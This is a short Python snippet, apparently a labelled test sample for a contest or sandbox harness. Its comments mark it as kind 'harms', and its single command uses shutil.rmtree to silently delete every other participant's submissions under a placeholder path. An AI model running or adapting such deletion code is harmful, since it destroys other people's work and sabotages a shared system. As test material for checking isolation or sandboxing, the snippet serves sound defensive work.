# where: first
# kind: harms
# does: The submissions of all others are deleted.
import shutil

shutil.rmtree("@OTHERS@", ignore_errors=True)
